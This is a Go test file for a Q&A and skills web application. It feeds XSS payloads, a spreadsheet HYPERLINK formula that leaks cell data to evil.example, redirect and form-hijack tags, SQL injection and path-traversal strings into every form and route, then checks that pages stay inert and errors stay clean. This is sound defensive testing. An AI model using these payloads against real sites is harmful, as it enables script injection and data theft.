package app

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/guildhall/guildhall/internal/platform/db"
	"github.com/guildhall/guildhall/internal/platform/db/dbtest"
	"github.com/guildhall/guildhall/internal/platform/id"
	"github.com/guildhall/guildhall/internal/ui/uitest"
)

// shared reads an input that lies beside the repository, nil when it does not.
func shared(t *testing.T, elem ...string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(append([]string{"..", "..", "..", "shared", "data", "security"}, elem...)...))
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return b
}

// payloads are texts that run as script where somebody forgot to escape them:
// our own, and every step-th of the shared ones, without what no text may hold.
func payloads(t *testing.T, step int) []string {
	t.Helper()
	out := []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `javascript:alert(1)`, `[a](javascript:alert(1))`,
		`</textarea><script>alert(1)</script>`, `</title><svg onload=alert(1)>`, `{{constructor.constructor('alert(1)')()}}`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`=HYPERLINK("http://evil.example/?"&A1)`, `<base href=//evil.example>`, `<form action=//evil.example><button>x`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
	}
	for i, l := range bytes.Split(shared(t, "xss", "payloads.jsonl"), []byte("\n")) {
		var p struct{ Payload string }
		if i%step == 0 && len(l) > 0 {
			if err := json.Unmarshal(l, &p); err != nil {
				t.Fatal(err)
			}
			out = append(out, p.Payload)
		}
	}
	for i, p := range out {
		out[i] = strings.ToValidUTF8(strings.ReplaceAll(p, "\x00", ""), "")
	}
	return out
}

// naughty are texts that break programs.
func naughty(t *testing.T) []string {
	t.Helper()
	out := []string{"", "' OR 1=1 --", "%", "_", `\`, "\u202eabc", "a\u0300\u0301", "ﬃ", "😀", "NULL", "-1e999", strings.Repeat("x", 300), `"a" AND NOT *`, "NEAR(a b)", "a:*", "&|!()"}
	if b := shared(t, "strings", "blns.json"); b != nil {
		var more []string
		if err := json.Unmarshal(b, &more); err != nil {
			t.Fatal(err)
		}
		out = append(out, more...)
	}
	return out
}

// cut shortens a text to n characters.
func cut(s string, n int) string {
	if r := []rune(s); len(r) > n {
		return string(r[:n])
	}
	return s
}

// harmless fails the test when something on the page could run or load from
// elsewhere; other faults of a document are other tests' business.
func (g *guild) harmless(path, payload, page string) {
	g.Helper()
	for _, p := range uitest.Problems(page) {
		for _, bad := range []string{"inline handler", "leads to \"", "inline script", "script from elsewhere", "inline style", " a <"} {
			if strings.Contains(" "+p, bad) && !strings.Contains(p, "is not there") {
				g.Errorf("%s shows %q: %s", path, payload, p)
			}
		}
	}
}

// TestHostileTextIsHarmlessOnEveryPageThatShowsIt puts every payload into every
// field that people fill in, and looks at it on the pages about one thing; every
// page of the house is looked at after each 25 payloads, while its lists
// still show them. What was written comes back as it was.
func TestHostileTextIsHarmlessOnEveryPageThatShowsIt(t *testing.T) {
	t.Parallel()
	step := 1
	if testing.Short() {
		step = 40
	}
	pages, all := 0, payloads(t, step)
	for some := range slices.Chunk(all, 250) { // a house that holds little answers fast
		pages += harmlessEverywhere(t, some)
	}
	t.Logf("%d payloads in every field, %d pages looked at", len(all), pages)
}

func harmlessEverywhere(t *testing.T, all []string) (pages int) {
	g := newGuild(t, dbtest.SQLite(t))
	ben := g.person("Ben")
	look := func(path, payload string) {
		code, page, _ := g.ask("Ada", "GET", path, "")
		if code != 200 && (code >= 500 || aboutPosts.MatchString(path)) { // other things have a test of their own
			t.Errorf("%s answers %d for %q", path, code, payload)
		}
		g.harmless(path, payload, page)
		pages++
	}
	for i, p := range all {
		var asked, answered, commented struct{ ID string }
		title := cut("What about this: "+p, 200)
		if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": title, "body": p, "skills": []string{cut(p, 100)}}, &asked); code != 201 {
			// What is no name of a skill is told so.
			if code = g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": title, "body": p}, &asked); code != 201 {
				t.Errorf("asking %q answers %d", p, code)
				continue
			}
		}
		question := "/api/v1/questions/" + asked.ID
		if code := g.call("Mia", "POST", question+"/answers", map[string]any{"body": p + "\n\n[a](" + p + ")"}, &answered); code != 201 {
			t.Errorf("answering %q answers %d", p, code)
			continue
		}
		for _, x := range []struct {
			who, method, path string
			want              int
			body              map[string]any
		}{
			{"Max", "POST", question + "/comments", 201, map[string]any{"body": cut(p, 2000)}},
			{"Ben", "PUT", question, 204, map[string]any{"title": title, "body": p + " again", "note": cut(p, 200)}},
			{"Mia", "POST", "/api/v1" + ben + "/vouches", 201, map[string]any{"skill": "weaving", "note": cut("Some real work: "+p, 1000)}},
			{"Ben", "PUT", "/api/v1/me", 204, map[string]any{"name": cut("B "+p, 200), "title": cut(p, 200), "pronouns": cut(p, 40), "about": cut(p, 2000), "weekly_budget": 3}},
			{"Ben", "POST", "/api/v1/me/skills", 201, map[string]any{"skill": "weaving", "direction": "teach", "level": 3, "note": cut(p, 200)}},
			{"Ada", "POST", "/api/v1/me/tokens", 201, map[string]any{"label": cut("T "+p, 60)}},
		} {
			out := &struct{ ID string }{}
			into := any(out)
			if x.want == 204 {
				into = nil
			}
			if code := g.call(x.who, x.method, x.path, x.body, into); code != x.want {
				t.Errorf("%s %s with %q answers %d", x.method, x.path, p, code)
			}
			if strings.HasSuffix(x.path, "/comments") {
				commented.ID = out.ID
			} else if strings.HasSuffix(x.path, "/tokens") {
				g.call("Ada", "DELETE", "/api/v1/me/tokens/"+out.ID, nil, nil)
			}
		}
		var kept struct{ Title, Body string }
		if code := g.call("Ada", "GET", question, nil, &kept); code != 200 || kept.Title != strings.Join(strings.Fields(title), " ") && kept.Title != strings.TrimSpace(title) ||
			strings.TrimSpace(kept.Body) != strings.TrimSpace(strings.ReplaceAll(strings.ReplaceAll(p+" again", "\r\n", "\n"), "\r", "\n")) {
			t.Errorf("%q comes back as %q, %q", p, kept.Title, kept.Body)
		}
		for _, path := range []string{"/questions/" + asked.ID, "/questions/" + asked.ID + "/edit", "/questions/" + asked.ID + "/history", ben, "/search?q=" + url.QueryEscape(cut(p, 200))} {
			look(path, p)
		}
		if (i+1)%25 != 0 && i != len(all)-1 {
			continue
		}
		for path, form := range map[string]url.Values{
			"/questions/" + asked.ID + "/state":      {"state": {"obsolete"}, "why": {cut(p, 200)}},
			"/admin/organisation":                    {"organisation": {cut("O "+p, 60)}, "time_zone": {"Europe/Lisbon"}},
			"/admin/sites":                           {"name": {cut("S "+p, 60)}, "time_zone": {"Europe/Lisbon"}},
			"/admin/invitations":                     {"people": {cut("I "+strings.ReplaceAll(p, "\n", " "), 100)}, "role": {"member"}},
			"/skills/" + g.skill.String() + "/edit":  {"kind": {"skill"}, "name": {"weaving"}, "category": {cut(p, 60)}, "description": {cut(p, 400)}, "synonyms": {cut(p, 60)}, "level1": {cut(p, 200)}},
			"/people/me/edit":                        {"name": {""}, "about": {p}, "title": {p}},
			"/questions":                             {"title": {""}, "body": {p}, "skills": {p}},
			"/login":                                 {"who": {p}, "secret": {p}},
			"/claim":                                 {"personnel_no": {p}, "code": {p}, "pin": {"1"}, "again": {"2"}},
			"/questions/" + asked.ID + "/answers":    {"body": {strings.Repeat(" ", 3)}},
			"/questions/" + asked.ID + "/acceptance": {"answer": {p}},
		} {
			code, page, _ := g.ask("Ada", "POST", path, form.Encode())
			if code >= 500 {
				t.Errorf("POST %s with %q answers %d", path, p, code)
			}
			if strings.HasPrefix(strings.TrimSpace(page), "<!") {
				g.harmless("POST "+path, p, page)
				pages++
			}
		}
		if code := g.call("Ada", "POST", "/api/v1/me/skills", map[string]any{"skill": "weaving", "direction": "teach", "level": 3, "note": cut(p, 200)}, nil); code != 201 {
			t.Errorf("declaring with %q answers %d", p, code)
		}
		g.follow()
		q, a, c := parseID(t, asked.ID), parseID(t, answered.ID), parseID(t, commented.ID)
		inside, outside := g.paths(q, a, c, g.cast["Ben"].Person)
		for _, path := range append(inside, "/who-knows?q="+url.QueryEscape(cut(p, 200)), "/questions/new?title="+url.QueryEscape(cut(p, 200)), "/people?name="+url.QueryEscape(cut(p, 100)),
			"/skills?q="+url.QueryEscape(cut(p, 100)), "/login?to="+url.QueryEscape(p)) {
			if path != "/people/me/departure" && !strings.HasPrefix(path, "/login") {
				look(path, p)
			}
		}
		for _, path := range outside {
			_, page, _ := g.ask("", "GET", path, "")
			g.harmless(path, p, page)
			pages++
		}
	}
	return pages
}

// aboutPosts are the addresses of what the test has made.
var aboutPosts = regexp.MustCompile(`^/(questions|answers|comments|people|skills|search|who-knows|admin|settings|notices)?(/|\?|$)`)

// TestEveryFieldOfEveryFormTakesHostileText goes through the table of
// permissions: each field of each form and operation gets texts that would run
// where somebody forgot to escape them, from somebody who may send it, and the
// pages about the same thing are opened. New practices are covered by their
// lines in the table.
func TestEveryFieldOfEveryFormTakesHostileText(t *testing.T) {
	g := newGuild(t, dbtest.SQLite(t))
	all, next := payloads(t, 30), 0
	sent, looked := 0, 0
	for _, pattern := range slices.Sorted(maps.Keys(permissions)) {
		l := permissions[pattern]
		method, path, _ := strings.Cut(pattern, " ")
		if method == "GET" || l.send == "" || strings.Contains(path, "logins") || path == "/admin/practices" || path == "/setup" {
			continue
		}
		who := ""
		for i, mark := range []byte(l.visible) {
			if columns[i] != "" && strings.IndexByte("2cnsi", mark) >= 0 {
				who = columns[i]
				if who == "Ada" || who == "Ben" {
					break
				}
			}
		}
		if who == "" {
			continue
		}
		var fields []string
		inAPI := strings.HasPrefix(path, "/api/")
		object := map[string]any{}
		if inAPI {
			if err := json.Unmarshal([]byte(l.send), &object); err != nil {
				continue
			}
			fields = slices.Sorted(maps.Keys(object))
		} else if form, err := url.ParseQuery(l.send); err == nil {
			fields = slices.Sorted(maps.Keys(form))
		}
		about, _, hasID := strings.Cut(path, "{")
		for _, field := range fields {
			for range 2 {
				p := cut(all[next%len(all)], 180)
				next++
				n := ""
				if hasID {
					n = g.thing(pattern, visible)
				}
				send := strings.ReplaceAll(l.send, "{who}", who)
				for from, to := range g.places {
					send = strings.ReplaceAll(send, from, to)
				}
				if inAPI {
					changed := map[string]any{}
					if err := json.Unmarshal([]byte(send), &changed); err != nil {
						t.Fatal(err)
					}
					if _, text := changed[field].(string); !text {
						continue
					}
					changed[field] = "A text " + p
					b, err := json.Marshal(changed)
					if err != nil {
						t.Fatal(err)
					}
					send = string(b)
				} else {
					form, err := url.ParseQuery(send)
					if err != nil {
						t.Fatal(err)
					}
					form.Set(field, "A text "+p)
					send = form.Encode()
				}
				g.clock.Advance(10 * time.Minute) // nobody asks too often
				g.signInAgain(who)
				fill := strings.NewReplacer("{id}", n, "{token}", n, "{hash}", n, "{direction}", "teach")
				code, page, to := g.ask(who, method, fill.Replace(path), send)
				sent++
				if code >= 500 {
					t.Errorf("%s with %s=%q answers %d", pattern, field, p, code)
				}
				if strings.HasPrefix(page, "<!") {
					g.harmless(pattern, p, page)
				}
				see := []string{to}
				for _, other := range slices.Sorted(maps.Keys(permissions)) {
					if at, ok := strings.CutPrefix(other, "GET "); ok && (at == strings.TrimSuffix(about, "/") || hasID && strings.HasPrefix(at, about+"{id}")) {
						see = append(see, fill.Replace(at))
					}
				}
				for _, at := range see {
					if !strings.HasPrefix(at, "/") || strings.HasPrefix(at, "/live") {
						continue
					}
					code, page, _ := g.ask(who, "GET", at, "")
					looked++
					if code >= 500 {
						t.Errorf("%s after %s with %q answers %d", at, pattern, p, code)
					}
					if strings.HasPrefix(page, "<!") {
						g.harmless(at, p, page)
					}
				}
			}
		}
	}
	g.follow()
	for _, at := range []string{"/", "/notices", "/questions", "/people", "/skills", "/admin", "/admin/audit"} {
		_, page, _ := g.ask("Ada", "GET", at, "")
		g.harmless(at, "all of them", page)
	}
	if sent < 100 || looked < 100 {
		t.Errorf("only %d texts were sent and %d pages looked at", sent, looked)
	}
	t.Logf("%d texts sent, %d pages looked at", sent, looked)
}

func parseID(t *testing.T, s string) id.ID {
	t.Helper()
	n, err := id.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func TestNaughtyStringsGetTheSameAnswerOnBothDatabases(t *testing.T) {
	t.Parallel()
	answers := map[string]string{}
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		g := newGuild(t, d)
		for i, s := range naughty(t) {
			q := url.QueryEscape(cut(s, 400))
			said := ""
			for _, path := range []string{"/search?q=" + q, "/who-knows?q=" + q, "/people?name=" + q, "/skills?q=" + q, "/questions/similar?q=" + q, "/api/v1/search?q=" + q} {
				code, _, _ := g.ask("Ada", "GET", path, "")
				if code >= 500 || code == 429 {
					t.Errorf("%.80q answers %d", path, code)
				}
				said += fmt.Sprint(code, " ")
			}
			for path, body := range map[string]map[string]any{
				"/api/v1/questions": {"title": "What is " + s, "body": s}, "/api/v1/me/skills": {"skill": s, "direction": "teach", "level": 2},
			} {
				said += path + fmt.Sprint(g.call("Ben", "POST", path, body, nil), " ")
			}
			said = strings.Join(strings.Fields(said), " ")
			key := fmt.Sprintf("%d %.60q", i, s)
			if was, ok := answers[key]; ok && !sameParts(was, said) {
				t.Errorf("%s: one database answers %s, the other %s", key, was, said)
			}
			answers[key] = said
		}
	})
}

// sameParts compares two lists of answers whatever their order.
func sameParts(a, b string) bool {
	count := map[string]int{}
	for _, w := range strings.Fields(a) {
		count[w]++
	}
	for _, w := range strings.Fields(b) {
		count[w]--
	}
	for _, n := range count {
		if n != 0 {
			return false
		}
	}
	return true
}

// nonsense are ids, queries and bodies that mean nothing.
var (
	nonsenseIDs     = []string{"x", "0000000000000", "zzzzzzzzzzzzz", "7zzzzzzzzzzzz", "-1", "%00", "..%2f..%2fetc", "1%20OR%201=1", "%F0%9F%98%80", strings.Repeat("a", 3000)}
	nonsenseQueries = []string{"cursor=garbage", "after=garbage&from=-1&limit=-1&skill=x&unit=y&site=z", "from=99999999999999999999&limit=1e9&q=%00", "q=%ff%fe", "list[]=x&list=%3Cb%3E&q=" + strings.Repeat("a+", 3000), "%zz", ";;&&=&=="}
	nonsenseBodies  = []string{"", "null", "[]", "{}", `"x"`, "{", `{"title":null,"body":[],"skills":{}}`, `{"title":1e400,"body":{"a":1},"name":9223372036854775808}`,
		`{"title":"\ud800 lone","body":"\u0000 nul"}`, "\xff\xfe", "title=%00&body=%ff&name=%00&q=%00&on=%00&id=%00", "title[]=1&body=%zz", strings.Repeat("a=b&", 2000), strings.Repeat("[", 5000)}
)

// TestNonsenseGetsAClearErrorEverywhere sends what means nothing to every route
// and every operation: the answers say so, never that something broke, and are
// the same on both databases.
func TestNonsenseGetsAClearErrorEverywhere(t *testing.T) {
	t.Parallel()
	answers := map[string]int{}
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		g := newGuild(t, d)
		sent := 0
		for _, pattern := range slices.Sorted(maps.Keys(permissions)) {
			method, path, _ := strings.Cut(pattern, " ")
			if path == "/live" || path == "/logout" || path == "/api/v1/me/logins" || path == "/settings/logins" || strings.HasPrefix(path, "/demo/") {
				continue // they have no end, or end what asks
			}
			fill := func(n string) string {
				return strings.NewReplacer("{$}", "", "{id}", n, "{token}", n, "{hash}", n, "{direction}", n).Replace(path)
			}
			var tries [][2]string
			for _, n := range nonsenseIDs {
				tries = append(tries, [2]string{fill(n), "{}"})
				if path == fill(n) {
					break // nothing stands in the path
				}
			}
			good := g.skill.String()
			for _, q := range nonsenseQueries {
				tries = append(tries, [2]string{fill(good) + "?" + q, ""})
			}
			if method != "GET" {
				for _, b := range nonsenseBodies {
					tries = append(tries, [2]string{fill(good), b})
				}
			}
			for i, x := range tries {
				code, page, _ := g.ask("Ada", method, x[0], x[1])
				sent++
				if code >= 500 || code == 429 && path != "/settings/secret" { // there guessing is slowed down
					t.Errorf("%s %.120s with %.60q answers %d", method, x[0], x[1], code)
				}
				if strings.HasPrefix(page, "<!") && code >= 400 {
					g.harmless(pattern, x[1], page)
				}
				key := fmt.Sprintf("%s %d", pattern, i)
				if was, ok := answers[key]; ok && was != code {
					t.Errorf("%s %.120s with %.60q: one database answers %d, the other %d", method, x[0], x[1], was, code)
				}
				answers[key] = code
			}
		}
		t.Logf("%d requests", sent)
	})
}
